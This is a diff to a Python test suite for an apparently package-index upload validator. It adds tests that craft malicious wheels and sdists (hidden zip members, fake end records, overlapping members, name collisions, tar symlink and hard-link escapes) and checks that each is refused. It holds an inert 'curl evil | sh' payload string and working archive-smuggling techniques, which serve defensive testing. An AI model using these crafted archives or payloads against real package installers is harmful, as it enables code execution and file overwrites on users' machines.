@@ -3,6 +3,8 @@ import io
 import os
 import random
 import struct
+import subprocess
+import sys
 import tarfile
 import warnings
 import zipfile
@@ -19,6 +21,7 @@ from cheeseshop.packaging.archives import (
 from cheeseshop.packaging.errors import UploadRejected
 from tests.packaging.dists import (
     core_metadata,
+    drop_from_central_directory,
     make_sdist,
     make_wheel,
     tar_member,
@@ -105,8 +108,20 @@ def sdist_with(tmp_path, *members, filename=SDIST_NAME):
 
 
 # Header patching for zip files, to build archives whose headers lie.
-_LOCAL_FIELDS = {"flags": (6, "<H"), "method": (8, "<H"), "crc": (14, "<L"), "size": (22, "<L")}
-_CENTRAL_FIELDS = {"flags": (8, "<H"), "method": (10, "<H"), "crc": (16, "<L"), "size": (24, "<L")}
+_LOCAL_FIELDS = {
+    "flags": (6, "<H"),
+    "method": (8, "<H"),
+    "crc": (14, "<L"),
+    "compressed": (18, "<L"),
+    "size": (22, "<L"),
+}
+_CENTRAL_FIELDS = {
+    "flags": (8, "<H"),
+    "method": (10, "<H"),
+    "crc": (16, "<L"),
+    "compressed": (20, "<L"),
+    "size": (24, "<L"),
+}
 
 
 def patch_zip_member(path, name: str, *, local: dict | None = None, central: dict | None = None):
@@ -350,6 +365,45 @@ def test_unicode_path_extra_field_is_refused(tmp_path):
     assert "has a Unicode path extra field" in rejection(inspect_wheel, path)
 
 
+def test_a_unicode_path_extra_field_in_the_local_header_only_is_refused(tmp_path):
+    info = zipfile.ZipInfo("example/a.py")
+    extra = struct.pack("<2H", 0x7075, 14) + b"\x01abcdexample/evil.py"[:14]
+    info.extra = extra
+    path = wheel_with(tmp_path, (info, b"x"))
+    data = bytearray(path.read_bytes())
+    central_copy = data.rindex(extra)  # the central directory comes after the local header
+    struct.pack_into("<H", data, central_copy, 0xCAFE)
+    path.write_bytes(bytes(data))
+    assert rejection(inspect_wheel, path) == (
+        f"{INVALID}Member 'example/a.py' has a Unicode path extra field, which may name it "
+        "differently to different tools."
+    )
+
+
+@pytest.mark.parametrize(
+    "extra",
+    [
+        struct.pack("<2H", 0xCAFE, 2) + b"ab" + struct.pack("<2H", 0xCAFE, 2) + b"cd",
+        struct.pack("<2H", 0xCAFE, 2) + b"ab" + b"\0\0",
+    ],
+    ids=["repeated", "trailing bytes"],
+)
+def test_a_member_with_repeated_or_malformed_extra_fields_is_refused(tmp_path, extra):
+    info = zipfile.ZipInfo("example/a.py")
+    info.extra = extra
+    path = wheel_with(tmp_path, (info, b"x"))
+    assert rejection(inspect_wheel, path) == (
+        f"{INVALID}Member 'example/a.py' has repeated or malformed extra fields."
+    )
+
+
+def test_a_directory_entry_holding_data_is_refused(tmp_path):
+    path = wheel_with(tmp_path, ("example/dir/", b"import os; os.system('evil')\n"))
+    assert rejection(inspect_wheel, path) == (
+        f"{INVALID}Directory entry 'example/dir/' holds 29 bytes of data."
+    )
+
+
 def test_symlink_member_in_zip_is_refused(tmp_path):
     info = zipfile.ZipInfo("example/link")
     info.external_attr = 0o120777 << 16
@@ -357,6 +411,266 @@ def test_symlink_member_in_zip_is_refused(tmp_path):
     assert rejection(inspect_wheel, path) == (
         f"{INVALID}Member 'example/link' is a symbolic link; zip distributions may not contain "
         "links."
+    )
+
+
+# Zip framing: zipfile and pip read the central directory, other tools the local headers in
+# order. Both must see the same members, so every byte belongs to a listed member.
+
+
+def wheel_hiding(tmp_path, position: int):
+    """A wheel whose member `example/hidden.py`, written at `position`, is missing from the
+    central directory."""
+    infos = list(wheel_members().items())
+    infos.insert(position, ("example/hidden.py", b"import os; os.system('curl evil | sh')\n"))
+    path = drop_from_central_directory(
+        write_wheel_infos(tmp_path / WHEEL_NAME, infos), "example/hidden.py"
+    )
+    with zipfile.ZipFile(path) as archive:
+        assert "example/hidden.py" not in archive.namelist()  # what zipfile and pip see
+    assert b"example/hidden.py" in path.read_bytes()  # what a local-header reader sees
+    return path
+
+
+def wheel_with_a_prepended_entry(tmp_path):
+    hidden = write_zip(tmp_path / "hidden.zip", {"example/hidden.py": b"evil"}).read_bytes()
+    path = make_wheel(tmp_path)
+    path.write_bytes(hidden[: hidden.index(b"PK\x01\x02")] + path.read_bytes())
+    return path
+
+
+def wheel_with_comment(tmp_path, comment: bytes):
+    path = make_wheel(tmp_path)
+    with zipfile.ZipFile(path, "a") as archive:
+        archive.comment = comment
+    return path
+
+
+def wheel_with_bytes_appended(tmp_path, suffix: bytes):
+    path = make_wheel(tmp_path)
+    path.write_bytes(path.read_bytes() + suffix)
+    return path
+
+
+def wheel_with_overlapping_members(tmp_path):
+    """The first member's data stretched over the second, as overlap zip bombs do."""
+    path = write_zip_stored(tmp_path / WHEEL_NAME, wheel_members())
+    with zipfile.ZipFile(path) as archive:
+        first, second = archive.infolist()[:2]
+    data = path.read_bytes()
+    start = first.header_offset + 30 + len(first.filename)
+    end = second.header_offset + 30 + len(second.filename) + second.compress_size
+    span = end - start
+    crc = zlib.crc32(data[start:end])
+    values = {"compressed": span, "size": span, "crc": crc}
+    return patch_zip_member(path, first.filename, local=values, central=values)
+
+
+def write_zip_stored(path, members: dict[str, bytes]):
+    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_STORED) as archive:
+        for member, data in members.items():
+            archive.writestr(member, data)
+    return path
+
+
+HIDDEN_DATA_ATTACKS = {
+    "an entry before the first member": (
+        lambda tmp_path: wheel_hiding(tmp_path, 0),
+        "Bytes 0 to ",
+    ),
+    "an entry between two members": (
+        lambda tmp_path: wheel_hiding(tmp_path, 2),
+        "of the zip file belong to no member listed in its central directory.",
+    ),
+    "an entry after the last member": (
+        lambda tmp_path: wheel_hiding(tmp_path, 4),
+        "of the zip file belong to no member listed in its central directory.",
+    ),
+    "an entry prepended to the archive": (
+        wheel_with_a_prepended_entry,
+        "The end record places the central directory at bytes",
+    ),
+    "a comment": (
+        lambda tmp_path: wheel_with_comment(tmp_path, b"nothing to see"),
+        "The zip file has a comment; distributions may not have one.",
+    ),
+    "a fake end record in the comment": (
+        # zipfile takes the fake record for the real one, and sees an empty archive.
+        lambda tmp_path: wheel_with_comment(tmp_path, b"PK\x05\x06" + bytes(18)),
+        "The end record places the central directory at bytes 0 to 0",
+    ),
+    "data after the end record": (
+        lambda tmp_path: wheel_with_bytes_appended(tmp_path, b"hidden"),
+        "The zip file has 6 bytes after its end record.",
+    ),
+    "a second archive appended": (
+        lambda tmp_path: wheel_with_bytes_appended(
+            tmp_path, write_zip(tmp_path / "second.zip", {"example/evil.py": b"x"}).read_bytes()
+        ),
+        "The end record places the central directory at bytes",
+    ),
+    "overlapping members": (
+        wheel_with_overlapping_members,
+        "Member 'example-1.0.dist-info/METADATA' overlaps another member.",
+    ),
+}
+
+
+@pytest.mark.parametrize(
+    ("build", "message"), HIDDEN_DATA_ATTACKS.values(), ids=list(HIDDEN_DATA_ATTACKS)
+)
+def test_a_wheel_with_data_outside_its_listed_members_is_refused(tmp_path, build, message):
+    assert message in rejection(inspect_wheel, build(tmp_path))
+
+
+class _Unseekable(io.RawIOBase):
+    """A write-only stream: zipfile then writes each member with a data descriptor."""
+
+    def __init__(self, path):
+        self.file = open(path, "wb")  # noqa: SIM115 - closed by close()
+
+    def writable(self):
+        return True
+
+    def write(self, data):
+        return self.file.write(data)
+
+    def close(self):
+        self.file.close()
+        super().close()
+
+
+def write_streamed_wheel(path):
+    stream = _Unseekable(path)
+    with zipfile.ZipFile(stream, "w", compression=zipfile.ZIP_DEFLATED) as archive:
+        for member, data in wheel_members().items():
+            archive.writestr(member, data)
+    stream.close()
+    return path
+
+
+def test_a_wheel_written_as_a_stream_with_data_descriptors_is_accepted(tmp_path):
+    path = write_streamed_wheel(tmp_path / WHEEL_NAME)
+    with zipfile.ZipFile(path) as archive:
+        assert all(info.flag_bits & 0x8 for info in archive.infolist())
+    assert inspect_wheel(path).root == DIST_INFO
+
+
+def test_a_data_descriptor_that_disagrees_with_the_central_directory_is_refused(tmp_path):
+    path = write_streamed_wheel(tmp_path / WHEEL_NAME)
+    data = bytearray(path.read_bytes())
+    descriptor = data.index(b"PK\x07\x08")
+    data[descriptor + 4] ^= 0xFF  # the CRC
+    path.write_bytes(bytes(data))
+    assert rejection(inspect_wheel, path) == (
+        f"{INVALID}The data descriptor of member 'example/__init__.py' does not match the "
+        "central directory."
+    )
+
+
+def test_a_wheel_built_by_setuptools_is_accepted(tmp_path):
+    project = tmp_path / "project"
+    (project / "src" / "example").mkdir(parents=True)
+    (project / "src" / "example" / "__init__.py").write_text("")
+    (project / "pyproject.toml").write_text(
+        '[build-system]\nrequires = ["setuptools"]\nbuild-backend = "setuptools.build_meta"\n'
+        '[project]\nname = "example"\nversion = "1.0"\n'
+    )
+    subprocess.run(
+        [
+            sys.executable,
+            "-m",
+            "build",
+            "--no-isolation",
+            "--outdir",
+            str(tmp_path / "dist"),
+            str(project),
+        ],
+        check=True,
+        capture_output=True,
+    )
+    assert inspect_wheel(tmp_path / "dist" / WHEEL_NAME).root == DIST_INFO
+    assert inspect_sdist(tmp_path / "dist" / SDIST_NAME).root == TOP
+
+
+# Names that collide where the wheel is unpacked: zipfile keeps both, a case-insensitive or
+# normalizing file system (macOS, Windows) one, and which one depends on the tool.
+
+
+def collision(first: str, second: str) -> str:
+    return (
+        f"Members {first!r} and {second!r} differ only by case, Unicode normalization or "
+        "trailing dots and spaces; some file systems unpack them to one path."
+    )
+
+
+NAME_COLLISIONS = {
+    "names differing by case": (
+        {"example/Mod.py": b"good", "example/mod.py": b"evil"},
+        collision("example/Mod.py", "example/mod.py"),
+    ),
+    "directories differing by case": (
+        {"Example/evil.py": b"evil"},
+        collision("example", "Example"),
+    ),
+    "names differing by NFC and NFD": (
+        {"example/caf\u00e9.py": b"good", "example/cafe\u0301.py": b"evil"},
+        collision("example/caf\u00e9.py", "example/cafe\u0301.py"),
+    ),
+    "names differing by NFKC": (
+        {"example/\ufb01le.py": b"good", "example/file.py": b"evil"},
+        collision("example/\ufb01le.py", "example/file.py"),
+    ),
+    "names differing by a trailing dot or space (Windows)": (
+        {"example/mod.py": b"good", "example/mod.py. ": b"evil"},
+        collision("example/mod.py", "example/mod.py. "),
+    ),
+    "a file and a directory of the same name": (
+        {"example/x": b"file", "example/x/y.py": b"evil"},
+        "Member 'example/x' is a file, and 'example/x/y.py' uses the same path as a directory.",
+    ),
+    "a directory entry and a file of the same name": (
+        {"example/x/": b"", "example/x": b"file"},
+        "Member 'example/x' is a file, and 'example/x/' uses the same path as a directory.",
+    ),
+    "a dist-info directory differing by case": (
+        {f"{DIST_INFO.upper()}/METADATA": b"Name: evil\n"},
+        collision(DIST_INFO, DIST_INFO.upper()),
+    ),
+}
+
+
+@pytest.mark.parametrize(("extra", "message"), NAME_COLLISIONS.values(), ids=list(NAME_COLLISIONS))
+def test_a_wheel_whose_names_collide_when_unpacked_is_refused(tmp_path, extra, message):
+    path = write_zip(tmp_path / WHEEL_NAME, wheel_members() | extra)
+    assert (INVALID + message) in rejection(inspect_wheel, path)
+
+
+def test_a_zip_sdist_whose_names_collide_is_refused(tmp_path):
+    path = write_zip(
+        tmp_path / "example-1.0.zip",
+        {
+            f"{TOP}/PKG-INFO": core_metadata("example", "1.0"),
+            f"{TOP}/A.py": b"",
+            f"{TOP}/a.py": b"",
+        },
+    )
+    assert "differ only by case" in rejection(inspect_sdist, path)
+
+
+def test_an_sdist_whose_names_collide_is_refused(tmp_path):
+    path = sdist_with(tmp_path, tar_member(f"{TOP}/A.py"), tar_member(f"{TOP}/a.py"))
+    assert "differ only by case" in rejection(inspect_sdist, path)
+
+
+def test_a_wheel_with_a_second_dist_info_directory_is_refused(tmp_path):
+    path = write_zip(
+        tmp_path / WHEEL_NAME,
+        wheel_members() | {"other-2.0.dist-info/METADATA": core_metadata("other", "2.0")},
+    )
+    assert rejection(inspect_wheel, path) == (
+        f"Wheel '{WHEEL_NAME}' has more than one .dist-info directory: '{DIST_INFO}', "
+        "'other-2.0.dist-info'."
     )
 
 
@@ -516,6 +830,137 @@ def test_hard_link_to_a_missing_file_is_refused(tmp_path):
     assert rejection(inspect_sdist, path) == (
         f"{INVALID}Hard link '{TOP}/copy' points to '{TOP}/later', which is not an earlier file."
     )
+
+
+# Links: each member is checked against the links unpacked before it, as the OS follows them.
+
+
+def symlink(path: str, target: str):
+    return tar_member(f"{TOP}/{path}", type=tarfile.SYMTYPE, linkname=target)
+
+
+def hard_link(path: str, target: str):
+    return tar_member(f"{TOP}/{path}", type=tarfile.LNKTYPE, linkname=target)
+
+
+def file(path: str, data: bytes = b"pwned\n"):
+    return tar_member(f"{TOP}/{path}", data)
+
+
+def directory(path: str):
+    return tar_member(f"{TOP}/{path}", type=tarfile.DIRTYPE)
+
+
+# Each of these looks inside the top-level directory name by name, and lands outside it (or on
+# another member) once the links before it are followed.
+LINK_ATTACKS = {
+    "a member written through a chain of links": (
+        [
+            directory("d"),
+            symlink("a/b/c/l1", "../../../d"),
+            symlink("a/b/c/l1/l2", "../../.."),
+            file("a/b/c/l1/l2/pwned.txt"),
+        ],
+        f"Member '{TOP}/a/b/c/l1/l2' is inside the symbolic link '{TOP}/a/b/c/l1'.",
+    ),
+    "a member written through one link": (
+        [symlink("up", "sub"), file("up/pwned.txt")],
+        f"Member '{TOP}/up/pwned.txt' is inside the symbolic link '{TOP}/up'.",
+    ),
+    "a member overwriting another through an alias": (
+        [file("src/mod.py", b"good"), symlink("alias", "src"), file("alias/mod.py", b"evil")],
+        f"Member '{TOP}/alias/mod.py' is inside the symbolic link '{TOP}/alias'.",
+    ),
+    "a link whose target goes up through an earlier link": (
+        [symlink("a/b/c/l1", "../../../d"), symlink("x", "a/b/c/l1/../../..")],
+        f"Link '{TOP}/x' points outside the top-level directory (to 'a/b/c/l1/../../..').",
+    ),
+    "a link moved outside by a later link": (
+        [symlink("x", "a/b/y/z/../../../q"), symlink("a/b/y", "../../s")],
+        f"Link '{TOP}/x' points outside the top-level directory (to 'a/b/y/z/../../../q').",
+    ),
+    "a link that leaves the tree and comes back": (
+        [symlink("x", f"../elsewhere/../{TOP}/PKG-INFO")],
+        f"Link '{TOP}/x' points outside the top-level directory "
+        f"(to '../elsewhere/../{TOP}/PKG-INFO').",
+    ),
+    "an absolute link target": (
+        [symlink("x", "/etc")],
+        f"Link '{TOP}/x' points outside the top-level directory (to '/etc').",
+    ),
+    "a hard link to a file outside": (
+        [hard_link("x", "../outside")],
+        f"Link '{TOP}/x' points outside the top-level directory (to '../outside').",
+    ),
+    "a hard link through a symbolic link": (
+        [
+            symlink("a/b/c/l1", "../../../d"),
+            hard_link("x", f"{TOP}/a/b/c/l1/../../../../PKG-INFO"),
+        ],
+        f"Hard link '{TOP}/x' points to '{TOP}/a/b/c/l1/../../../../PKG-INFO', which is not "
+        "an earlier file.",
+    ),
+    "a hard link to a symbolic link": (
+        [symlink("x", "PKG-INFO"), hard_link("y", f"{TOP}/x")],
+        f"Hard link '{TOP}/y' points to '{TOP}/x', which is not an earlier file.",
+    ),
+    "a link replacing a directory that has members": (
+        [file("d/x.py"), symlink("d", "sub")],
+        f"Member '{TOP}/d' is a file, and '{TOP}/d/x.py' uses the same path as a directory.",
+    ),
+    "a loop of links": (
+        [symlink("a", "b"), symlink("b", "a")],
+        f"Link '{TOP}/b' is part of a loop or of too long a chain of links.",
+    ),
+}
+
+
+@pytest.mark.parametrize(("members", "message"), LINK_ATTACKS.values(), ids=list(LINK_ATTACKS))
+def test_an_sdist_whose_links_lead_outside_once_followed_is_refused(tmp_path, members, message):
+    path = sdist_with(tmp_path, *members)
+    assert rejection(inspect_sdist, path) == INVALID + message
+
+
+def test_an_sdist_with_more_links_to_follow_than_the_budget_is_refused(tmp_path, monkeypatch):
+    monkeypatch.setattr(archives, "_MAX_ARCHIVE_RESOLUTION_STEPS", 20)
+    links = [symlink(f"l{index}", "a/b/c/PKG-INFO") for index in range(6)]
+    assert rejection(inspect_sdist, sdist_with(tmp_path, *links)) == (
+        f"{INVALID}The archive has too many links to follow (more than 20 steps)."
+    )
+
+
+def test_the_chain_of_links_attack_would_write_outside_the_target(tmp_path):
+    """Why the rule exists: unpacking the chain with no filter writes beside the target."""
+    path = sdist_with(tmp_path, *LINK_ATTACKS["a member written through a chain of links"][0])
+    target = tmp_path / "unpacked" / "here"
+    target.mkdir(parents=True)
+    with tarfile.open(path) as archive:
+        archive.extractall(target, filter="fully_trusted")  # noqa: S202 - the attack itself
+    assert (tmp_path / "unpacked" / "pwned.txt").read_bytes() == b"pwned\n"
+
+
+def test_links_that_stay_inside_once_followed_are_accepted(tmp_path):
+    path = sdist_with(
+        tmp_path,
+        file("src/mod.py"),
+        symlink("docs/src", "../src"),
+        symlink("docs/mod.py", "src/mod.py"),
+        symlink("a/b/c/l1", "../../../src"),
+        symlink("x", "a/b/c/l1/../PKG-INFO"),
+        hard_link("copy", f"{TOP}/src/mod.py"),
+        symlink("later", "not/yet/there"),
+    )
+    assert inspect_sdist(path).members >= {f"{TOP}/docs/src", f"{TOP}/copy"}
+
+
+def test_a_zip_sdist_with_a_link_is_refused(tmp_path):
+    link = zipfile.ZipInfo(f"{TOP}/up")
+    link.external_attr = (0o120777 << 16) | 0x20
+    with zipfile.ZipFile(tmp_path / "example-1.0.zip", "w") as archive:
+        archive.writestr(f"{TOP}/PKG-INFO", core_metadata("example", "1.0"))
+        archive.writestr(link, "../..")
+        archive.writestr(f"{TOP}/up/pwned.txt", "pwned")
+    assert "is a symbolic link" in rejection(inspect_sdist, tmp_path / "example-1.0.zip")
 
 
 def test_duplicate_tar_members_are_refused(tmp_path):
@@ -687,4 +1132,4 @@ def test_zip64_member_count_is_read_from_the_zip64_end_record(tmp_path, monkeypa
     end = data.rindex(b"PK\x05\x06")
     struct.pack_into("<2H", data, end + 8, 0xFFFF, 0xFFFF)
     path.write_bytes(bytes(data))
-    assert archives._zip_declared_member_count(path) == 5
+    assert archives._zip_end_records(path).member_count == 5
